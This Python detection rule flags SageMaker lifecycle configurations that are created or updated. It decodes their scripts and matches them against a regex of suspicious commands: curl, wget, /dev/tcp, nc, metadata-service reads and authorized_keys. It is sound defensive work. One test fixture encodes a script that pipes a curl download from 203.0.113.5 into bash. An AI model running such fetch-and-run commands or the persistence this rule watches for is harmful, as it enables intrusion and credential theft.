"""A SageMaker lifecycle configuration created or changed: a script that runs as root at notebook start.

Lifecycle scripts are a quiet persistence point: whatever they contain runs on every start, with the
notebook role's credentials at hand.
"""

from __future__ import annotations

import base64
import binascii
import re

from streams.detect.aws import is_sagemaker, succeeded
from streams.detect.base import RuleMeta, negative, positive
from streams.detect.examples import cloudtrail
from streams.detect.remediation import manual
from streams.normalize.cloudtrail_record import ct

META = RuleMeta(
    id="sagemaker_lifecycle_config_changed",
    title="SageMaker lifecycle configuration created or updated",
    severity="medium",
    status="stable",
    description="A notebook-instance or Studio lifecycle configuration was created or updated. Its script "
                "runs at every start of the notebook or app, as root on notebook instances.",
    attack=("T1546", "T1059.004"),
    atlas=("AML.T0011",),
    nist_ai_rmf=("MEASURE 2.7", "MANAGE 4.1"),
    references=("https://docs.aws.amazon.com/sagemaker/latest/dg/notebook-lifecycle-config.html",),
    runbook="Decode and read the script (context lists suspicious commands found in it). Downloads from the "
            "internet, reverse shells and reads of the instance metadata service are red flags.",
    remediation="Restore the approved script, restrict the lifecycle-config actions to the platform role, "
                "and pin allowed configurations with the sagemaker:NotebookInstanceLifecycleConfig condition.",
    provider="aws-sagemaker",
    services=("sagemaker.amazonaws.com",),
    actions=(
        manual("sagemaker", "UpdateNotebookInstanceLifecycleConfig", "config", "region",
               description="Restore the approved lifecycle script from code; notebooks pick it up on their "
                           "next start.", risk="low"),
    ),
)

_ACTIONS = frozenset({
    "CreateNotebookInstanceLifecycleConfig", "UpdateNotebookInstanceLifecycleConfig",
    "CreateStudioLifecycleConfig",
})
_SUSPICIOUS = re.compile(
    r"curl\s|wget\s|/dev/tcp/|\bnc\s+-|ncat\s|169\.254\.169\.254|base64\s+(-d|--decode)|aws\s+configure\s+set|"
    r"crontab\s|authorized_keys|chmod\s+\+s",
)


def rule(event: dict) -> bool:
    return event["action"] in _ACTIONS and is_sagemaker(event) and succeeded(event)


def _scripts(event: dict) -> list[str]:
    record = ct(event)
    encoded: list[str] = []
    for hook in ("onCreate", "onStart"):
        entries = record.param(hook)
        if isinstance(entries, list):
            encoded += [entry.get("content", "") for entry in entries if isinstance(entry, dict)]
    studio = record.param("studioLifecycleConfigContent")
    if isinstance(studio, str):
        encoded.append(studio)
    scripts = []
    for text in encoded:
        try:
            scripts.append(base64.b64decode(text, validate=True).decode("utf-8", "replace"))
        except (binascii.Error, ValueError):
            continue  # CloudTrail may hide the content; then there is nothing to inspect
    return scripts


def title(event: dict) -> str:
    if any(_SUSPICIOUS.search(script) for script in _scripts(event)):
        return "SageMaker lifecycle script with suspicious commands"
    return META.title


def context(event: dict) -> dict:
    record = ct(event)
    found = sorted({match.group(0).strip() for script in _scripts(event) for match in _SUSPICIOUS.finditer(script)})
    return {"config": record.param("notebookInstanceLifecycleConfigName")
            or record.param("studioLifecycleConfigName") or "", "suspicious": found}


def _content(script: str) -> str:
    return base64.b64encode(script.encode()).decode()


EXAMPLES = [
    positive("script fetching and running a payload", cloudtrail(
        "CreateNotebookInstanceLifecycleConfig", "sagemaker.amazonaws.com",
        params={"notebookInstanceLifecycleConfigName": "setup",
                "onStart": [{"content": _content("#!/bin/bash\ncurl -s http://203.0.113.5/x | bash\n")}]})),
    positive("studio lifecycle config", cloudtrail(
        "CreateStudioLifecycleConfig", "sagemaker.amazonaws.com",
        params={"studioLifecycleConfigName": "jupyter-ext", "studioLifecycleConfigAppType": "JupyterServer",
                "studioLifecycleConfigContent": _content("pip install jupyterlab-git\n")})),
    negative("configs listed", cloudtrail("ListNotebookInstanceLifecycleConfigs", "sagemaker.amazonaws.com")),
    negative("update denied", cloudtrail("UpdateNotebookInstanceLifecycleConfig", "sagemaker.amazonaws.com",
                                         params={"notebookInstanceLifecycleConfigName": "setup"},
                                         error="AccessDeniedException")),
]
